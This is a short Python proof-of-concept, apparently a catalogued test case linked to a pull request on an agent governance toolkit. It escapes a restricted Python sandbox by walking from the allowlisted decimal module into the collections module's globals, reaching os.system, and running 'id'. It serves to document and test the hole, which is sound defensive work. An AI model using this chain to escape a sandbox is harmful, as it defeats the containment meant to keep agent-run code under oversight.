# Source: https://github.com/microsoft/agent-governance-toolkit/pull/2631 (allowlisted stdlib modules leak references)
# Family: module-attribute
# What: decimal.DecimalTuple is a namedtuple: its _make classmethod's globals are collections', holding _sys
import decimal

g = decimal.DecimalTuple._make.__func__.__globals__
g["_sys"].modules["os"].system("id")
